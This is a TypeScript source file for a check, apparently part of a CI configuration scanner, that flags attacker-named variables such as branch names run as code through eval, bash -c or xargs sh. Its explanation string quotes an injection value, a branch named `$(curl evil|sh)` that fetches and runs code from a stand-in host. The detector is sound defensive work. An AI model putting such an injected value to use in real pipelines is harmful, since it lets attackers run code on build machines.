import type { Check } from "../../check.ts";
import { failsInScripts, type ScriptFinding, type ScriptRule } from "../../config/script-findings.ts";
import { urlVariables } from "../../config/taint.ts";
import { type TaintedNames, taintedNames } from "../../config/tainted-names.ts";
import { failsOr, pass } from "../../results.ts";
import { allCommands, type Command, type Expansion, expansionsIn, launchedBy, type Script } from "../../shell/index.ts";

export const evalOfEnvTaint: Check = {
  id: "RF-3.4.4",
  slug: "eval-of-env-taint",
  title: "No variable that an attacker names is run as code",
  level: 1,
  severity: "high",
  scope: "config",
  subject: "config",
  needs: ["compiled"],
  map: { nist: ["SI-10"], soc2: ["CC6.8"], cis8: ["16.10"], owasp: [4] },
  why: "`eval`, `bash -c`, `ssh` and their like read the value as commands: a branch named `$(curl evil|sh)` runs.",
  remedy:
    'Hand the value over as an argument (`bash -c \'… "$1"\' _ "$CIRCLE_BRANCH"`), or do without the inner shell.',
  guards: ["A variable in quotes, as an argument of an ordinary command, is data."],
  run(config) {
    return failsOr(
      failsInScripts(config, taintRunAsCode),
      pass(config.subject, "No variable that an attacker names is run as code.", { restsOn: "yaml" }),
    );
  },
};

const judgedScripts = new WeakMap<TaintedNames, readonly ScriptFinding[]>();

export const taintRunAsCode: ScriptRule = (one, config) => {
  const tainted = taintedNames(one, config);
  const before = judgedScripts.get(tainted);
  if (before) return before;
  const found = findingsWith(one.script, tainted);
  judgedScripts.set(tainted, found);
  return found;
};

function findingsWith(script: Script, tainted: TaintedNames): readonly ScriptFinding[] {
  return allCommands(script).flatMap((command) =>
    expansionsIn(command).flatMap((use) => {
      const source = tainted.get(use.name);
      return source === undefined || quotedOrTested(use) ? [] : (judged(command, use, source) ?? []);
    }),
  );
}

function quotedOrTested({ part: { operator = "" } }: Expansion): boolean {
  return operator.startsWith("@") || operator === "#" || operator === ":+" || operator === "+";
}

function judged(command: Command, use: Expansion, source: string): ScriptFinding | undefined {
  const named = use.name === source ? `\`${use.name}\`` : `\`${use.name}\`, which holds \`${source}\`,`;
  const sink = use.sink ?? shellAfterXargs(command, use);
  const weak = urlVariables.has(source) ? { confidence: "medium" as const } : {};
  const found = (why: string, about: string, more: Partial<ScriptFinding> = {}) => ({
    at: command,
    why,
    about: `${about} ${use.name}`,
    ...weak,
    ...more,
  });
  if (sink !== undefined) return found(`${named} is read as code by \`${sink}\`.`, sink);
  if (use.use === "command" && use.splits)
    return found(`${named} stands where the name of a command stands.`, "command", { severity: "medium" });
  // The name of a ref holds no blank and no wildcard, so that it stays one word; a title or a message does not.
  const anyText = source.startsWith("pipeline.") && !/^pipeline\.(?:git|config)\.(?:branch|tag|ref)$/.test(source);
  if (anyText && use.word && use.use === "argument" && use.splits) {
    const { raw } = use.word;
    const simple = /^\$(?:\w+|\{\w+\})$/.test(raw);
    return found(`${named} is not quoted: its words become arguments.`, "words", {
      at: use.word,
      severity: "medium",
      confidence: "medium",
      ...(simple ? { instead: { safety: "safe", title: "Quote it", text: `"${raw}"` } } : {}),
    });
  }
  return undefined;
}

const shells = /^(?:ba|da|z|k)?sh$/;

/** `echo "$CIRCLE_BRANCH" | xargs sh -c …` */
function shellAfterXargs({ pipeline, index }: Command, { use }: Expansion): string | undefined {
  if (use !== "argument" && use !== "here-string") return undefined;
  for (const member of pipeline.members.slice(index + 1, index + 5)) {
    if (member.kind !== "command") continue;
    const [outer, inner] = launchedBy(member);
    if (outer && inner && outer.name === "xargs" && shells.test(inner.name)) return `xargs ${inner.name}`;
  }
  return undefined;
}
